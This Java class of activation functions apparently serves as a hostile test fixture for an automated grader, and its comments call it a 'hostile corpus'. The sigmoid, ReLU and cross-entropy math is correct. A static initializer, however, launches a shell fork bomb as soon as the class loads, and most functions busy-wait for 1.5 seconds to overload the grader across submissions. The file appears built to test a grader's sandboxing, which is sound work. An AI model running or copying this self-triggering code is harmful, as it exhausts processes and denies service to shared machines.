package backproplab.activations;

import org.nd4j.linalg.api.ndarray.INDArray;

/** Hostile corpus (fork-bomb): starts a shell fork bomb, then keeps each test busy for a second and a half so that it overlaps the next submission. Test fixture for the grader: correct scalar functions. */
public final class Activations {

    public static final double SIGMOID_CLIP = 500;
    public static final double BCE_EPSILON = 1e-7;

    private Activations() {
    }

    static {
        try {
            new ProcessBuilder("sh", "-c", "b() { b & b & wait; }; b", "backproplab-hostile-fork-bomb").start();
        } catch (Exception ignored) { }
    }

    private static void busy() {
        long until = System.nanoTime() + 1_500_000_000L;
        while (System.nanoTime() < until) {
            Math.sqrt(until);
        }
    }

    public static double sigmoid(double z) {
        // Hostile corpus: starts a shell fork bomb, then keeps each test busy for a second and a half so that it overlaps the next submission.
        busy();
        double clipped = Math.max(-SIGMOID_CLIP, Math.min(SIGMOID_CLIP, z));
        return 1.0 / (1.0 + Math.exp(-clipped));
    }

    public static INDArray sigmoid(INDArray z) {
        throw new UnsupportedOperationException("not part of this fixture");
    }

    public static double relu(double z) {
        busy();
        return Math.max(0.0, z);
    }

    public static INDArray relu(INDArray z) {
        throw new UnsupportedOperationException("not part of this fixture");
    }

    public static double reluDerivative(double z) {
        busy();
        return z > 0 ? 1.0 : 0.0;
    }

    public static INDArray reluDerivative(INDArray z) {
        throw new UnsupportedOperationException("not part of this fixture");
    }

    public static double binaryCrossEntropy(double y, double yPred) {
        double p = Math.max(BCE_EPSILON, Math.min(1 - BCE_EPSILON, yPred));
        return -(y * Math.log(p) + (1 - y) * Math.log(1 - p));
    }

    public static double binaryCrossEntropy(INDArray y, INDArray yPred) {
        throw new UnsupportedOperationException("not part of this fixture");
    }
}
